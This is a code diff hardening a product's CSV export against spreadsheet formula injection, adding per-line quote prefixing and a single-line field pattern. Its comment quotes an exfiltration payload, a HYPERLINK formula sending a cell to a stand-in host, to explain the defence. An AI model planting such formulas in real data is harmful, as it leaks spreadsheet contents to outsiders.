@@ -1,11 +1,23 @@
+/** The start of the cell or of a line in it, where one of these makes a spreadsheet read a formula. */
+const FORMULA_START = /(?<=^|[\r\n])(?=[=+\-@\t\r])/g;
+
 /**
  * A cell as every CSV the product writes must hold it (OWASP, CSV injection): text starting with
  * `=`, `+`, `-`, `@`, a tab or a carriage return would be run as a formula by a spreadsheet
  * (`=HYPERLINK("http://evil.test/?d="&A1,"Click")` from a nationality or a staff name), so it gets
- * a leading `'` and is read as text. Numbers stay numbers; quoting is the CSV writer's job.
+ * a leading `'` and is read as text; so does every line inside the cell, as a reader that splits rows
+ * on a lone carriage return would start a row there (issue 22, finding 4). Numbers stay numbers;
+ * quoting is the CSV writer's job (admin/src/csv.ts quotes every field).
  */
 export function csvSafe(value: unknown): string | number {
   if (typeof value === 'number') return value;
   const text = value === null || value === undefined ? '' : String(value);
-  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
+  return text.replace(FORMULA_START, "'");
 }
+
+/**
+ * A single-line text field (a staff name, a label): no control characters (C0, DEL, C1) and no line or
+ * paragraph separator, so nothing stored can split a row of an export or a line of a mail header.
+ * A JSON-schema pattern, as the API's TypeBox schemas take it.
+ */
+export const SINGLE_LINE_PATTERN = '^[^\\u0000-\\u001F\\u007F-\\u009F\\u2028\\u2029]*$';
